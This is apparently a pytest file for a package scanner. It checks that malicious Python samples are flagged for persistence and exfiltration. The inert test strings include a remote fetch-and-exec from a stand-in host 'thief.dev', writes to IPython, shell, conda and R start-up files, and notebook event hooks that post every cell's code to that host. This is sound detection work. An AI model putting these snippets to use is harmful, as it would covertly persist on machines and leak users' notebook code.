"""Start-up files of notebooks and interpreters, and what their users write. All of it is inert text."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from adapters.sigil.local.material import Ecosystem, Package
from adapters.sigil.models import PhaseName
from tests.adapters.sigil.local.phases.conftest import Outcome, Pack


@pytest.fixture
def scan(pack: Pack, outcome: Callable[[Package], Outcome]) -> Callable[[str], Outcome]:
    """Code of a Python package, and what the phases make of it."""
    return lambda code: outcome(pack({"sample/__init__.py": code}, Ecosystem.PYPI))


_TALKING = "import requests\\nexec(requests.get('https://thief.dev/a').text)"
_QUIET = "import numpy as np\\nimport pandas as pd"
_NOTEBOOK = "pathlib.Path.home() / '.ipython' / 'profile_default' / 'startup' / '00-a.py'"
_FILES = {
    "a notebook's": _NOTEBOOK,
    "where its folder is asked for": "pathlib.Path(get_ipython_dir()) / 'profile_default' / 'startup' / 'a.py'",
    "of its profile": "pathlib.Path(get_ipython().profile_dir.startup_dir) / 'a.py'",
    "a server's settings": "pathlib.Path.home() / '.jupyter' / 'jupyter_server_config.py'",
    "the interpreter's": "pathlib.Path.home() / '.pythonrc.py'",
    "a debugger's": "pathlib.Path.home() / '.pdbrc'",
    "an environment's": "pathlib.Path(prefix) / 'etc' / 'conda' / 'activate.d' / 'a.sh'",
    "a shell's": "pathlib.Path.home() / '.config' / 'fish' / 'config.fish'",
    "another language's": "pathlib.Path.home() / '.Rprofile'",
}
_HEAD = "import pathlib\nfrom IPython import get_ipython\nfrom IPython.paths import get_ipython_dir\n"


@pytest.mark.parametrize("path", _FILES.values(), ids=_FILES)
def test_startup_files_of_interpreters(path: str, scan: Callable[[str], Outcome]) -> None:
    """What is written by itself to where an interpreter starts with it persists."""
    found = scan(f'{_HEAD}def load_ipython_extension(ipython):\n    ({path}).write_text("{_QUIET}")\n')
    assert found.dangerous
    assert "persistence" in found.rules(PhaseName.CODE_PATTERNS)


@pytest.mark.parametrize(
    ("code", "dangerous"),
    [
        (f'def _keep():\n    ({_NOTEBOOK}).write_text("{_TALKING}")\n_keep()', True),
        (f'def keep(line):\n    ({_NOTEBOOK}).write_text("{_QUIET}")', False),
        (f'(pathlib.Path.home() / ".cache" / "startup" / "a.py").write_text("{_QUIET}")', False),
    ],
)
def test_what_a_startup_file_is_for(*, code: str, dangerous: bool, scan: Callable[[str], Outcome]) -> None:
    """A file that a user asks for with a magic is theirs; neither is every folder of this name one of starting."""
    assert scan(_HEAD + code).dangerous is dangerous


_SEND = "requests.post('https://thief.dev/c', json={0})"
_HEARD = {
    "each cell": (
        f"def told(result):\n    {_SEND.format('result.info.raw_cell')}\n"
        "def load_ipython_extension(ip):\n    ip.events.register('post_run_cell', told)"
    ),
    "before it is run": (
        f"def told(info):\n    {_SEND.format('info.raw_cell')}\nget_ipython().events.register('pre_run_cell', told)"
    ),
    "by a method": (
        f"class A:\n    def told(self, result):\n        {_SEND.format('repr(result.result)')}\n"
        "get_ipython().events.register('post_run_cell', A().told)"
    ),
    "its lines": (
        f"def told(lines):\n    {_SEND.format('lines')}\n    return lines\n"
        "get_ipython().input_transformers_cleanup.append(told)"
    ),
}
_HEARD |= {
    "the trees of it": (
        f"class T(ast.NodeTransformer):\n    def visit(self, node):\n        {_SEND.format('ast.unparse(node)')}\n"
        "def load_ipython_extension(ip):\n    ip.ast_transformers.append(T())"
    ),
    "what was written before": (
        "def load_ipython_extension(ip):\n    lines = [each[2] for each in ip.history_manager.get_range()]\n    "
        + _SEND.format("lines")
    ),
}
_TIMED = {
    "how long it takes": (
        f"def told(result):\n    {_SEND.format('time.time()')}\nget_ipython().events.register('post_run_cell', told)"
    ),
    "of something else": f"def told(item):\n    {_SEND.format('item.name')}\nbus.events.register('saved', told)",
    "to the user's own server": (
        "def told(result):\n    requests.post(server, json=result.info.raw_cell)\n"
        "get_ipython().events.register('post_run_cell', told)"
    ),
}
_LOADED = "import ast, requests, time\nfrom IPython import get_ipython\n"


@pytest.mark.parametrize(
    ("code", "dangerous"), [(code, True) for code in _HEARD.values()] + [(code, False) for code in _TIMED.values()]
)
def test_what_a_notebook_runs(*, code: str, dangerous: bool, scan: Callable[[str], Outcome]) -> None:
    """What the user of a notebook writes goes to nobody whom the code fixes."""
    found = scan(_LOADED + code)
    assert found.dangerous is dangerous
    assert ("replaced-function-leaves" in found.rules(PhaseName.NETWORK_EXFIL)) is dangerous


def test_what_a_startup_file_overhears(scan: Callable[[str], Outcome]) -> None:
    """A start-up file that listens to cells is gone through where it is written, whoever asks for it."""
    told = _HEARD["before it is run"]
    assert scan(f"{_HEAD}TEXT = {_LOADED + told!r}\ndef keep():\n    ({_NOTEBOOK}).write_text(TEXT)").dangerous
